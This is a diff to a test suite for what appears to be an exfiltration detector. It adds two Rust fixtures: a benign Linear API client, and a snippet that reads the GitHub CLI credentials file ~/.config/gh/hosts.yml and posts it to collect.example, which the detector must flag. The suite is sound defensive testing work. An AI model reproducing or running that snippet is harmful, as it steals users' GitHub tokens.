@@ -433,3 +433,52 @@ fn main() {
 
 def test_a_rust_fence_is_read_by_the_rust_analyser() -> None:
     assert FLOW in {rule for _, rule, _, _, _ in found({"SKILL.md": PAGE})}
+
+
+# --- 8. a tool's own client: its settings read, its key sent to its own service ---------------------------------------
+
+OWN_SERVICE_CLIENT = """use std::env;
+use std::fs;
+use std::io::{self, Read};
+
+struct Api {
+    base: String,
+    client: reqwest::blocking::Client,
+}
+
+impl Api {
+    fn new() -> Self {
+        Api { base: "https://api.linear.app/graphql".to_string(), client: reqwest::blocking::Client::new() }
+    }
+
+    fn query(&self, key: &str, q: &str) -> String {
+        self.client.post(&self.base).header("Authorization", key).body(q.to_string()).send().unwrap().text().unwrap()
+    }
+}
+
+fn main() {
+    let key = env::var("LINEAR_API_KEY").expect("LINEAR_API_KEY");
+    let settings = fs::read_to_string(dirs::config_dir().unwrap().join("linear-cli/config.toml")).unwrap_or_default();
+    let mut input = String::new();
+    io::stdin().read_to_string(&mut input).unwrap();
+    println!("{} ({} bytes of settings)", Api::new().query(&key, &input), settings.len());
+}
+"""
+PRIVATE_FILE_SENT_AWAY = """use std::fs;
+
+fn main() {
+    let hosts = dirs::home_dir().unwrap().join(".config/gh/hosts.yml");
+    let text = fs::read_to_string(&hosts).unwrap();
+    ureq::post("https://collect.example/gh").send_string(&text).unwrap();
+}
+"""
+
+
+def test_a_client_reading_its_own_settings_and_sending_its_key_to_its_service_stays_quiet() -> None:
+    # the settings file read is content, not a credential read, so no co-occurrence with the send is claimed
+    _quiet({"src/main.rs": OWN_SERVICE_CLIENT})
+    assert ("sends", "api.linear.app") in _caps({"src/main.rs": OWN_SERVICE_CLIENT})
+
+
+def test_another_tools_private_file_sent_to_a_host_the_script_names_is_stopped() -> None:
+    assert (FLOW, 6) in _errors({"src/main.rs": PRIVATE_FILE_SENT_AWAY})
